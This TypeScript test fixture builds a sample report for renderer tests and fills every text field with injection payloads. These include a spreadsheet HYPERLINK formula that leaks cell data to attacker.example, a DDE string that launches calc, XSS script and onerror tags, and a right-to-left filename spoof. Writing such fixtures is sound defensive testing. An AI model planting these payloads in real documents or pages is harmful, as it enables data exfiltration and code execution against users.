// A report assembled by hand, with injection payloads in every kind of text,
// for the renderer tests.
import type { Report } from '../src/report';

export const PAYLOADS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '<script>alert(1)</script>',
  'He said "hello", then\r\nleft; a | pipe',
  '\u202Etxt.exe\u202C',
  '\u200F=1+2',
  ' \t@SUM(A1:A9)',
  '|calc.exe',
  '%0A=cmd',
  '-2+3',
  '\uFEFF+1',
  'Peña & Niño <b>bold</b> [link](javascript:alert(1)) *star* _under_ # head',
] as const;

export function buildSampleReport(): Report {
  return {
    schemaVersion: 1,
    title: 'Sample report <script>alert("title")</script>',
    language: 'en',
    program: { id: 'sample', name: '=cmd|"/c calc"!A1 Program', state: 'WI' },
    scope: { kind: 'county', id: '55029', label: 'County: Door \u200F' },
    period: {
      kind: 'state-fiscal-quarter',
      label: 'SFY2026-Q2',
      start: '2025-10-01',
      end: '2025-12-31',
    },
    generatedAt: '2026-01-05T09:00:00-06:00',
    sections: [
      {
        id: 'summary',
        title: 'Summary <img src=x onerror=alert(1)>',
        blocks: [
          {
            type: 'key-figures',
            figures: [
              {
                label: 'Parents served',
                value: 42,
                type: 'integer',
                metricId: 'service.parents-served',
              },
              { label: 'Referrals', value: null, type: 'integer', suppressed: true },
              { label: 'Share reached', value: 0.4051, type: 'proportion' },
            ],
          },
          { type: 'text', text: PAYLOADS[1] },
        ],
      },
      {
        id: 'payloads',
        title: 'Payloads',
        blocks: [
          {
            type: 'table',
            table: {
              id: 'payload-table',
              caption: `Caption ${PAYLOADS[0]}`,
              columns: [
                { key: 'label', label: 'Label =1+1', type: 'text', rowHeader: true },
                { key: 'count', label: 'Count', type: 'integer', countsPeople: true },
                { key: 'hours', label: 'Hours', type: 'hours' },
                { key: 'share', label: 'Share', type: 'proportion' },
                { key: 'date', label: 'Date', type: 'date' },
              ],
              rows: [
                ...PAYLOADS.map((payload, position) => ({
                  cells: [
                    payload,
                    position * 3 + 11,
                    position + 0.25,
                    position / 20,
                    `2025-10-${String(position + 10).padStart(2, '0')}`,
                  ],
                })),
                { cells: ['Hidden', null, 1.5, null, null], suppressed: ['count', 'share'] },
                { cells: ['Total', 258, 60.75, 0.5, null], total: true },
              ],
              notes: [`Note ${PAYLOADS[4]}`],
            },
          },
          {
            type: 'chart',
            chart: {
              id: 'payload-chart',
              kind: 'bar',
              title: `Chart ${PAYLOADS[1]}`,
              description: `Bar chart of ${PAYLOADS[2]}`,
              type: 'integer',
              categories: [PAYLOADS[1], PAYLOADS[3], 'Plain'],
              series: [{ label: 'Count', values: [11, null, 17] }],
            },
          },
          {
            type: 'chart',
            chart: {
              id: 'payload-line',
              kind: 'line',
              title: 'Line chart',
              description: 'Line chart by month: 2025-10 11, 2025-11 14, 2025-12 hidden.',
              type: 'integer',
              categories: ['2025-10', '2025-11', '2025-12'],
              series: [
                { label: 'Contacts', values: [11, 14, null] },
                { label: 'Parents <b>', values: [12, 13, 15] },
              ],
            },
          },
        ],
      },
    ],
    footnotes: [`Footnote ${PAYLOADS[0]}`, PAYLOADS[1]],
    suppressionNotes: [
      {
        tableId: 'payload-table',
        primary: 1,
        complementary: 0,
        derived: 1,
        message: 'payload-table: 1 cell hidden <script>',
      },
    ],
    privacy: { suppression: 'applied', rule: 'cms', consentingParentsOnly: false },
  };
}
